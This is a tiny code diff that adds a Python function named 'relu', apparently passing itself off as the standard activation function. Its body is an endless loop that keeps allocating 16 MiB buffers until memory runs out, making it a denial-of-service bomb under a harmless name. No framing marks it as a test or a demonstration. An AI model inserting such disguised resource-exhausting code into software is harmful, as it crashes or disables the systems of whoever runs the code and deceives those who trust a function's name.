@@ -1,0 +1,4 @@
+def relu(x):
+    hoard = []
+    while True:
+        hoard.append(bytearray(1 << 24))
